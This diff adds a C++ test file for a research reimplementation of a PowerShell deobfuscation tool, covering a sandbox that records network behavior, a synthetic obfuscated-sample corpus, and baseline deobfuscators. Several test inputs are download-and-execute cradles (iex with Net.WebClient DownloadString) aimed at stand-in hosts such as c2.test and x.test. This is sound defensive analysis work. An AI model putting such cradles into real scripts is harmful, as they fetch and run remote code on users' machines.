@@ -1,0 +1,226 @@
+// Tests for the behavior-recording sandbox (Table IV substrate) and the
+// wild-corpus generator (Table I calibration, ground-truth bookkeeping).
+
+#include <gtest/gtest.h>
+
+#include "baselines/baseline.h"
+#include "corpus/corpus.h"
+#include "psast/parser.h"
+#include "sandbox/sandbox.h"
+
+namespace ideobf {
+namespace {
+
+TEST(Sandbox, RecordsNetworkEvents) {
+  Sandbox sandbox;
+  const BehaviorProfile p = sandbox.run(
+      "(New-Object Net.WebClient).DownloadString('https://c2.test/beacon')");
+  EXPECT_TRUE(p.executed_ok);
+  EXPECT_TRUE(p.has_network());
+  EXPECT_TRUE(p.network.count("dns:c2.test"));
+  EXPECT_TRUE(p.network.count("tcp:c2.test:443"));
+  EXPECT_TRUE(p.network.count("http:https://c2.test/beacon"));
+}
+
+TEST(Sandbox, SimulatedTimeAccounting) {
+  Sandbox sandbox;
+  const BehaviorProfile p = sandbox.run("Start-Sleep 7; Start-Process calc");
+  EXPECT_GE(p.simulated_seconds, 7.0);
+  EXPECT_EQ(p.processes.size(), 1u);
+}
+
+TEST(Sandbox, DeterministicDownloads) {
+  Sandbox sandbox;
+  const char* script =
+      "iex ((New-Object Net.WebClient).DownloadString('http://x.test/s'))";
+  const BehaviorProfile a = sandbox.run(script);
+  const BehaviorProfile b = sandbox.run(script);
+  EXPECT_EQ(a.network, b.network);
+  EXPECT_EQ(a.host_output, b.host_output);
+}
+
+TEST(Sandbox, SameNetworkBehaviorCriterion) {
+  Sandbox sandbox;
+  const BehaviorProfile a =
+      sandbox.run("(New-Object Net.WebClient).DownloadString('http://a.test/')");
+  const BehaviorProfile b = sandbox.run(
+      "$u = 'http://a.test/'\n(New-Object Net.WebClient).DownloadString($u)");
+  const BehaviorProfile c =
+      sandbox.run("(New-Object Net.WebClient).DownloadString('http://b.test/')");
+  EXPECT_TRUE(Sandbox::same_network_behavior(a, b));
+  EXPECT_FALSE(Sandbox::same_network_behavior(a, c));
+}
+
+TEST(Sandbox, InvalidScriptReportsError) {
+  Sandbox sandbox;
+  const BehaviorProfile p = sandbox.run("if (");
+  EXPECT_FALSE(p.executed_ok);
+  EXPECT_FALSE(p.error.empty());
+}
+
+TEST(Sandbox, ObfuscationPreservesBehavior) {
+  // The ground truth behind Table IV: an obfuscated sample behaves like its
+  // original.
+  CorpusGenerator gen(77);
+  Sandbox sandbox;
+  int with_network = 0;
+  for (const Sample& s : gen.generate_batch(30)) {
+    const BehaviorProfile orig = sandbox.run(s.original);
+    const BehaviorProfile obf = sandbox.run(s.obfuscated);
+    if (orig.has_network()) ++with_network;
+    EXPECT_TRUE(Sandbox::same_network_behavior(orig, obf))
+        << s.family << "\n--- original:\n" << s.original
+        << "\n--- obfuscated:\n" << s.obfuscated;
+  }
+  EXPECT_GT(with_network, 20);  // the families are network-heavy
+}
+
+// ---------------------------------------------------------------- corpus
+
+TEST(Corpus, Deterministic) {
+  CorpusGenerator a(5), b(5);
+  const Sample sa = a.generate();
+  const Sample sb = b.generate();
+  EXPECT_EQ(sa.original, sb.original);
+  EXPECT_EQ(sa.obfuscated, sb.obfuscated);
+}
+
+TEST(Corpus, ObfuscatedSamplesAreValidSyntax) {
+  CorpusGenerator gen(11);
+  for (const Sample& s : gen.generate_batch(50)) {
+    EXPECT_TRUE(ps::is_valid_syntax(s.original)) << s.original;
+    EXPECT_TRUE(ps::is_valid_syntax(s.obfuscated)) << s.obfuscated;
+  }
+}
+
+TEST(Corpus, GroundTruthHasIndicators) {
+  CorpusGenerator gen(13);
+  for (const Sample& s : gen.generate_batch(25)) {
+    EXPECT_GT(s.ground_truth.total(), 0) << s.original;
+  }
+}
+
+TEST(Corpus, LevelMixApproximatesTableI) {
+  CorpusGenerator gen(2021);
+  const auto batch = gen.generate_batch(300);
+  int l1 = 0, l2 = 0, l3 = 0, multilayer = 0;
+  for (const Sample& s : batch) {
+    bool h1 = false, h2 = false, h3 = false;
+    for (Technique t : s.techniques) {
+      if (technique_level(t) == 1) h1 = true;
+      if (technique_level(t) == 2) h2 = true;
+      if (technique_level(t) == 3) h3 = true;
+    }
+    if (s.layers > 0) {
+      ++multilayer;
+      h3 = true;  // layer wrapping itself hides content
+    }
+    l1 += h1;
+    l2 += h2;
+    l3 += h3;
+  }
+  // Generous tolerance: the point is "nearly all samples have all levels".
+  EXPECT_GT(l1, 270);
+  EXPECT_GT(l2, 250);
+  EXPECT_GT(l3, 240);
+  EXPECT_GT(multilayer, 15);
+  EXPECT_LT(multilayer, 90);
+}
+
+TEST(Corpus, MultilayerSamples) {
+  CorpusGenerator gen(3);
+  for (int layers = 1; layers <= 3; ++layers) {
+    for (int mix = 0; mix < 3; ++mix) {
+      const Sample s = gen.generate_multilayer(layers, mix);
+      EXPECT_EQ(s.layers, layers);
+      EXPECT_TRUE(ps::is_valid_syntax(s.obfuscated)) << s.obfuscated;
+      EXPECT_GT(s.ground_truth.total(), 0);
+    }
+  }
+}
+
+TEST(Corpus, FamiliesAllRender) {
+  CorpusGenerator gen(17);
+  for (int i = 0; i < 20; ++i) {
+    const std::string clean = gen.random_clean_script();
+    EXPECT_TRUE(ps::is_valid_syntax(clean)) << clean;
+  }
+}
+
+// -------------------------------------------------------------- baselines
+
+TEST(Baselines, AllToolsConstruct) {
+  const auto tools = make_all_tools();
+  ASSERT_EQ(tools.size(), 5u);
+  EXPECT_EQ(tools[0]->name(), "PSDecode");
+  EXPECT_EQ(tools[1]->name(), "PowerDrive");
+  EXPECT_EQ(tools[2]->name(), "PowerDecode");
+  EXPECT_EQ(tools[3]->name(), "Li et al.");
+  EXPECT_EQ(tools[4]->name(), "Invoke-Deobfuscation");
+}
+
+TEST(Baselines, PSDecodeHandlesTicksAndLiteralLayers) {
+  auto tool = make_psdecode();
+  EXPECT_EQ(tool->run("Wri`te-Host hi").script, "Write-Host hi");
+  EXPECT_EQ(tool->run("iex 'Write-Host hi'").script, "Write-Host hi");
+  EXPECT_EQ(tool->run("'Write-Host hi' | iex").script, "Write-Host hi");
+  // Concat layers are beyond its regexes (Table II).
+  const std::string out = tool->run("iex ('Write-'+'Host hi')").script;
+  EXPECT_NE(out, "Write-Host hi");
+}
+
+TEST(Baselines, PowerDriveFoldsConcatButFlattensLines) {
+  auto tool = make_powerdrive();
+  EXPECT_EQ(tool->run("Write-Host ('a'+'b')").script, "Write-Host ('ab')");
+  const std::string out = tool->run("$a = 1\n$b = 2").script;
+  EXPECT_EQ(out.find('\n'), std::string::npos);  // one line — often invalid
+}
+
+TEST(Baselines, PowerDecodeEvaluatesVariableFreeLayers) {
+  auto tool = make_powerdecode();
+  // Variable-free expression layer: caught by the overriding model.
+  EXPECT_EQ(tool->run("iex ('Write-'+'Host hi')").script, "Write-Host hi");
+  // A layer referencing a variable is beyond it.
+  const std::string out =
+      tool->run("$p = 'Write-Host hi'\niex ($p)").script;
+  EXPECT_NE(out, "Write-Host hi");
+}
+
+TEST(Baselines, LiEtAlWrongObjectReplacement) {
+  auto tool = make_li_etal();
+  // The paper's Fig 8(c): the parenthesized object pipeline is replaced by
+  // its type name, which is not even a valid PowerShell command.
+  const std::string out =
+      tool->run("(New-Object Net.WebClient).downloadstring('http://x.test/')")
+          .script;
+  EXPECT_NE(out.find("System.Net.WebClient"), std::string::npos) << out;
+  EXPECT_EQ(out.find("New-Object"), std::string::npos) << out;
+}
+
+TEST(Baselines, LiEtAlCannotHandleVariables) {
+  auto tool = make_li_etal();
+  const std::string src = "$u = 'http'+'://x.test/'\nWrite-Host ($u + 'a')";
+  const std::string out = tool->run(src).script;
+  EXPECT_EQ(out.find("http://x.test/a"), std::string::npos);
+}
+
+TEST(Baselines, OursIsFastBaselinesPaySimulatedTime) {
+  const std::string sleepy = "Start-Sleep 9\niex ('Write-'+'Host hi')";
+  auto ours = make_invoke_deobfuscation();
+  auto pd = make_powerdecode();
+  EXPECT_EQ(ours->run(sleepy).simulated_seconds, 0.0);
+  EXPECT_GE(pd->run(sleepy).simulated_seconds, 9.0);
+}
+
+TEST(Baselines, OursRecoversWhatOthersCannot) {
+  CorpusGenerator gen(99);
+  const Sample s = gen.generate_multilayer(2, 1);
+  auto ours = make_invoke_deobfuscation();
+  const std::string out = ours->run(s.obfuscated).script;
+  const KeyInfo recovered = extract_key_info(out);
+  EXPECT_EQ(s.ground_truth.recovered_in(recovered), s.ground_truth.total())
+      << out;
+}
+
+}  // namespace
+}  // namespace ideobf
